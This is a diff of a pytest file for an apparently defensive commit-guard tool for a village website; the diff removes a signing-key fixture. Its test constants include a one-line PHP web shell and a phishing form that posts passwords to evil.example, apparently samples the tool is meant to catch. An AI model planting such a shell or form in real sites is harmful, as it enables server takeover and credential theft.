@@ -7,18 +7,11 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from helpers import gitguard, make_key, run, write_config
+from helpers import gitguard, run, write_config
 
 HOME = "<html><title>Desa Sukamaju</title><h1>Selamat datang</h1></html>\n"
 SHELL = "<?php system($_GET['c']); ?>\n"
 PHISH = "<html><form action='https://evil.example/'><input name=password></form></html>\n"
-
-
-@pytest.fixture(scope="module")
-def rina(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, dict[str, str]]]:
-    """An approver's key file and the [people] table that names her."""
-    key, public = make_key(tmp_path_factory.mktemp("keys"), "rina")
-    return key, {"rina": {"name": "Rina Wulandari", "role": "kasubbag", "signing_key": public}}
 
 
 def one_line(stderr: str) -> str:
